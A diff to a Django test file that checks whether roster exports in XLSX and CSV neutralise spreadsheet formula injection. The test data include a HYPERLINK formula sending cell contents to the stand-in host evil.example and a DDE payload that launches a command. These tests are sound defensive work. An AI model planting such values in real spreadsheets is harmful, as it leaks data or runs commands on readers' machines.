@@ -50,4 +50,43 @@ def test_pdf_contains_chinese_text(client, booked, kind, tmp_path):
 
 def test_unknown_export_is_404(client, session):
     client.force_login(officer())
-    assert client.get(reverse("training_bases:roster_export", args=[session.pk, "roster", "csv"])).status_code == 404
+    assert client.get(reverse("training_bases:roster_export", args=[session.pk, "roster", "ods"])).status_code == 404
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A3,"x")'
+
+
+@pytest.mark.parametrize("kind", ["roster", "signin"])
+def test_names_that_look_like_formulas_stay_text_in_xlsx(client, session, kind):
+    user = staff(last_name=EVIL, first_name="")
+    user.enterprise.name_zh = "@SUM(1+1)*cmd|' /C calc'!A0"
+    user.enterprise.save()
+    services.booking_create(user=user, session_id=session.pk)
+    client.force_login(officer())
+    response = client.get(reverse("training_bases:roster_export", args=[session.pk, kind, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
+    name_cell = next(c for v, c in cells.items() if isinstance(v, str) and v.startswith("=HYPERLINK"))
+    assert name_cell.value.strip() == EVIL  # unchanged for the reader ...
+    assert name_cell.data_type == "s"  # ... but text, not a formula
+    enterprise_cell = cells[user.enterprise.name_zh]
+    assert enterprise_cell.data_type == "s"
+    assert not [c for c in cells.values() if c.data_type == "f"]
+    # frozen header, A4, header repeated on every printed page
+    assert sheet.freeze_panes == "A5"
+    assert int(sheet.page_setup.paperSize) == 9  # A4
+    assert sheet.print_title_rows == "$4:$4"
+
+
+def test_csv_export_neutralises_formulas(client, session):
+    user = staff(last_name=EVIL, first_name="")
+    services.booking_create(user=user, session_id=session.pk)
+    client.force_login(officer())
+    response = client.get(reverse("training_bases:roster_export", args=[session.pk, "roster", "csv"]))
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    import csv
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    cells = [c for row in rows for c in row]
+    assert f"'{EVIL}" in cells
+    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
